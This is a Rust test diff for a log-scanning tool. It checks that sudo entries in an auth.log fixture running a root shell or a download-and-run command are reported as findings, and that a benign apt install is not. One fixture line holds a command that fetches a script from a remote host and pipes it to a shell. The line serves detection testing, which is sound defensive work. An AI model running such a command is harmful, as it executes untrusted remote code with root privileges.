@@ -206,3 +206,37 @@ fn nul_bytes_never_make_a_log_skipped() {
     );
     assert_eq!(offender_ips(&out), ["10.66.0.66"], "{}", stdout(&out));
 }
+
+/// Item 9: a root shell and a download-and-run through sudo are findings.
+#[test]
+fn sudo_shells_and_download_and_run_are_findings() {
+    let dir = tempfile::tempdir().unwrap();
+    let lines = [
+        "Dec  4 10:00:00 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c curl http://203.0.113.45/x.sh | sh".to_string(),
+        "Dec  4 10:01:00 h sudo:    bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash".to_string(),
+        "Dec  4 10:02:00 h sudo:    carol : TTY=pts/2 ; PWD=/home/carol ; USER=root ; COMMAND=/usr/bin/apt install curl".to_string(),
+    ];
+    let log = write(dir.path(), "auth.log", &lines);
+    let out = run(&["summary", "--json"], &[&log]);
+    let text = stdout(&out);
+    let ids: Vec<&str> = text
+        .lines()
+        .filter(|l| l.starts_with(r#"{"type":"finding""#))
+        .map(|l| {
+            let at = l.find(r#""id":""#).unwrap() + 6;
+            &l[at..at + l[at..].find('"').unwrap()]
+        })
+        .collect();
+    assert_eq!(
+        ids,
+        ["logscan/sudo-download-exec", "logscan/sudo-shell"],
+        "{text}"
+    );
+    assert!(
+        !text
+            .lines()
+            .any(|l| l.contains(r#""type":"finding""#) && l.contains("carol")),
+        "{text}"
+    );
+    assert_eq!(out.status.code(), Some(1));
+}
